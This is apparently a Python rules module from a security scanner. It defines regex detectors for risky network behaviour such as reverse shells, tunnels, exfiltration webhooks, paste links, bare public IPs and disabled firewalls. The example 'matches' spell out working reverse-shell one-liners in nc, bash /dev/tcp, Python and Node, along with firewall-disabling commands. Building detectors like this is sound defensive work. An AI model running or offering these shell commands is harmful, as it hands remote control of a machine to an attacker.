"""Network: doors opened to others, and connections to bare addresses."""

from __future__ import annotations

from typing import Final

from skills_app.guard.model import Category, Kind, Role, Rule, Severity
from skills_app.guard.rules.fragments import EXFIL_HOST, PASTE_SITE, PUBLIC_IP, SHELL

_WHY: Final = "Whoever answers at the other end gets a command line on this machine."
_CHECK: Final = "Do not run it. Ask what it is for."
_MILD: Final = {Kind.REFERENCE: Severity.MEDIUM, Kind.TEST: Severity.LOW, Role.PROSE: Severity.MEDIUM}

NETWORK: tuple[Rule, ...] = (
    Rule(
        id="reverse_shell",
        severity=Severity.CRITICAL,
        category=Category.NETWORK,
        title="Gives a command line to somebody else",
        why=_WHY,
        harmless="Security training, in a laboratory.",
        check=_CHECK,
        pattern=r"\b(?:nc|ncat|netcat)(?:\.traditional|\.openbsd|\.exe)?[ \t][^\n]{0,80}?(?:-\w{0,6}[ec]\b"
        rf"|--exec|--sh-exec)[ \t]{{1,4}}[\"']?(?:{SHELL}|cmd|powershell)|\b(?:nc|ncat)[ ][^\n"
        r"|;]{0,60}\|[ \t]{0,4}(?:/bin/)?(?:ba|z)?sh\b(?![\w.-])|\bmk(?:fifo|nod)\b[^\n]{0,160}?\b(?:nc"
        r"|ncat|netcat|telnet|openssl[ ]s_client)\b"
        r"|\bsocat\b[^\n]{0,120}?(?:exec|system):[^\n]{0,20}?(?:sh|bash|cmd|powershell)|\b(?:telnet"
        r"|nc|openssl[ ]s_client)\b[^\n|]{0,80}\|[ \t]{0,4}(?:/bin/)?(?:ba)?sh\b[ \t]{0,4}\||\bmsfvenom\b[^\n]{0,6"
        r"0}-p[ ]|/inet/tcp/\d",
        hints=("nc", "netcat", "mkfifo", "mknod", "socat", "telnet", "openssl", "msfvenom", "/inet/tcp"),
        at=_MILD,
        matches=(
            "nc -e /bin/sh 45.9.148.7 4444",
            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h.example.test 9 > /tmp/f",
            "nc -l -p 4441 -e /bin/bash",
        ),
        look_alikes=("nc -z localhost 8080", "socat TCP-LISTEN:80,fork TCP:localhost:8080"),
    ),
    Rule(
        id="bash_reverse_shell",
        severity=Severity.CRITICAL,
        category=Category.NETWORK,
        title="Gives a command line to somebody else",
        why=_WHY,
        harmless="Security training, in a laboratory.",
        check=_CHECK,
        pattern=r"\b(?:ba|z|k)?sh[ \t]{1,4}-i[ \t]{0,4}(?:>&|<&|>|&>|\d?>)[^\n]{0,20}/dev/(?:tcp"
        r"|udp)/|\bexec[ ]\d{1,3}<>[ ]?/dev/(?:tcp|udp)/(?!127\.|localhost)[^\n]{0,80}|(?:0<&"
        r"|<&|>&)\d{1,3}[^\n]{0,30}/dev/tcp/|/dev/tcp/(?:\$|\d{1,3}\.)[^\n]{0,40}0>&1",
        hints=("/dev/tcp", "/dev/udp"),
        at=_MILD,
        matches=("bash -i >& /dev/tcp/45.9.148.7/4444 0>&1", "exec 5<>/dev/tcp/h.example.test/443"),
        look_alikes=("timeout 1 bash -c '</dev/tcp/localhost/8080'", "echo > /dev/null"),
    ),
    Rule(
        id="python_socket_oneliner",
        severity=Severity.CRITICAL,
        category=Category.NETWORK,
        title="Gives a command line to somebody else, from a program",
        why=_WHY,
        harmless="Security training, in a laboratory.",
        check=_CHECK,
        pattern=r"\bsocket\b[^\0]{0,400}?\.connect\([^\0]{0,300}?(?:os\.dup2\(|pty\.spawn\(|subprocess\.(?:call"
        r"|Popen|run)\([^\n]{0,60}?(?:/bin/(?:ba)?sh|cmd\.exe))|\bperl\b[^\n]{0,20}-e[^\n]{0,40}Socket[^\n]{0,300}"
        r"exec|\bruby\b[^\n]{0,20}-rsocket[^\n]{0,200}(?:exec|spawn|sh[ ]-i)|fsockopen\([^\n]{0,120}(?:exec"
        r"|shell_exec|proc_open|passthru)\(|TCPClient\([^\0]{0,400}?(?:iex|Invoke-Expression|cmd\.exe"
        r"|powershell)|net\.(?:connect|Socket|createConnection)\([^\0]{0,240}?(?:spawn|exec)\([\"'](?:/bin/)?(?:ba"
        r")?sh|new[ ]Socket\([^\0]{0,200}?getRuntime\(\)\.exec|require\([\"']child_process[\"']\)[^\0]{0,300}?spaw"
        r"n\([\"'](?:/bin/)?(?:ba)?sh[^\0]{0,300}?net\.|net\.Dial\([^\0]{0,300}?exec\.Command\([\"'](?:/bin/)?(?:b"
        r"a)?sh",
        hints=("socket", "fsockopen", "tcpclient", "net.", "child_process"),
        at=_MILD,
        matches=(
            'import socket,os,pty;s=socket.socket();s.connect(("45.9.148.7",9));os.dup2(s.fileno(),0);pty.spawn("sh")',
            "require('net').connect(9, 'h'); c = net.connect(9, 'h', () => { sh = cp.spawn('/bin/sh', []) })",
        ),
        look_alikes=('s = socket.create_connection(("localhost", 80))', "const socket = net.connect(80)"),
    ),
    Rule(
        id="tunnel_service",
        severity=Severity.LOW,
        category=Category.NETWORK,
        title="Opens this machine to the internet",
        why="Whoever knows the address reaches a service meant for you alone.",
        harmless="Showing somebody a page you are working on.",
        check="Which port, for how long, with which password?",
        pattern=r"\bngrok[ ](?:http|tcp|start)\b|\bcloudflared[ ]tunnel\b|\blocaltunnel\b|\blt[ ]--port\b"
        r"|\bserveo\.net\b|\blocalhost\.run\b|\bssh[ ][^\n]{0,60}-R[ ]?\d{0,5}:|\bbore[ ]local\b"
        r"|\btailscale[ ]funnel\b",
        hints=("ngrok", "cloudflared", "localtunnel", "lt --port", "serveo", "localhost.run", "ssh", "bore ", "funnel"),
        matches=("ngrok http 8080", "ssh -R 80:localhost:3000 serveo.net"),
        look_alikes=("ssh -L 80:localhost:3000 host", "The tunnel is long."),
    ),
    Rule(
        id="bind_all_interfaces",
        severity=Severity.LOW,
        category=Category.NETWORK,
        title="Lets the whole network in",
        why="A service on all interfaces can be reached by other machines.",
        harmless="Inside a container.",
        check="Would 127.0.0.1 do?",
        pattern=r"(?:host|bind|listen|addr(?:ess)?)[\"']?[ =:(]{1,4}[\"']?0\.0\.0\.0|0\.0\.0\.0:\d{2,5}",
        hints=("0.0.0.0",),
        matches=("app.run(host='0.0.0.0')", "--bind 0.0.0.0:8000"),
        look_alikes=("app.run(host='127.0.0.1')", "version 10.0.0.0"),
    ),
    Rule(
        id="python_socket_connect",
        severity=Severity.LOW,
        category=Category.NETWORK,
        title="Opens a connection of its own",
        why="What goes over it is seen by nothing else.",
        harmless="Checking whether a port answers.",
        check="Which host, what is sent?",
        pattern=r"\bsocket\.(?:socket|create_connection)\([^\0]{0,120}?\.connect(?:_ex)?\(",
        hints=("socket.",),
        matches=("s = socket.socket()\ns.connect(a)", "socket.socket().connect_ex(a)"),
        look_alikes=("socket.gethostname()", "websocket.connect(u)"),
    ),
    Rule(
        id="exfil_service",
        severity=Severity.MEDIUM,
        category=Category.NETWORK,
        title="Names a place for catching data",
        why="Such places show whoever set them up everything that is sent.",
        harmless="Trying out a webhook of your own.",
        check="Is it yours, and what is sent?",
        pattern=rf"https?://[^\s\"'<>)]{{0,60}}?{EXFIL_HOST}",
        hints=("http",),
        at={Kind.REFERENCE: Severity.LOW, Kind.TEST: Severity.LOW},
        matches=("https://webhook.site/0a1b", "https://x1.oastify.com"),
        look_alikes=("https://example.test/webhook", "webhook.site is a page"),
    ),
    Rule(
        id="paste_service",
        severity=Severity.LOW,
        category=Category.NETWORK,
        title="Names a paste site or short link",
        why="What stands behind it can be changed at any time.",
        harmless="Sharing a log.",
        check="Open the link and see where it leads.",
        pattern=rf"https?://(?:www\.)?{PASTE_SITE}/",
        hints=("http",),
        matches=("https://pastebin.com/abc", "https://bit.ly/abc"),
        look_alikes=("https://example.test/paste", "bit.ly is short"),
    ),
    Rule(
        id="hardcoded_ip_port",
        severity=Severity.MEDIUM,
        category=Category.NETWORK,
        title="A bare public address",
        why="A number does not say whose machine it is.",
        harmless="A server of your own, an example in a text.",
        check="Whose machine is it?",
        pattern=rf"(?:https?|tcp|ws|ftp)://{PUBLIC_IP}",
        hints=("://1", "://2", "://3", "://4", "://5", "://6", "://7", "://8", "://9"),
        at={Kind.REFERENCE: Severity.LOW, Kind.TEST: Severity.LOW, Kind.CONFIG: Severity.LOW},
        matches=("http://45.9.148.7/x", "ftp://45.9.148.7:2121"),
        look_alikes=("http://127.0.0.1:8080", "version 4.5.6.7"),
    ),
    Rule(
        id="opens_firewall",
        severity=Severity.MEDIUM,
        category=Category.NETWORK,
        title="Takes the firewall down",
        why="Everything that listens on the machine can be reached.",
        harmless="Opening one port for a service of yours.",
        check="Which port is needed?",
        pattern=r"\bufw[ ]disable\b|\biptables[ ]-F\b|\bsetenforce[ ]0\b|\bsystemctl[ ](?:stop"
        r"|disable)[ ](?:firewalld|ufw|apparmor|auditd)\b|Set-NetFirewallProfile\b[^\n]{0,60}False",
        hints=("ufw", "iptables", "setenforce", "systemctl", "firewallprofile"),
        at={Kind.REFERENCE: Severity.LOW},
        matches=("ufw disable", "iptables -F"),
        look_alikes=("ufw allow 22", "iptables -L"),
    ),
)
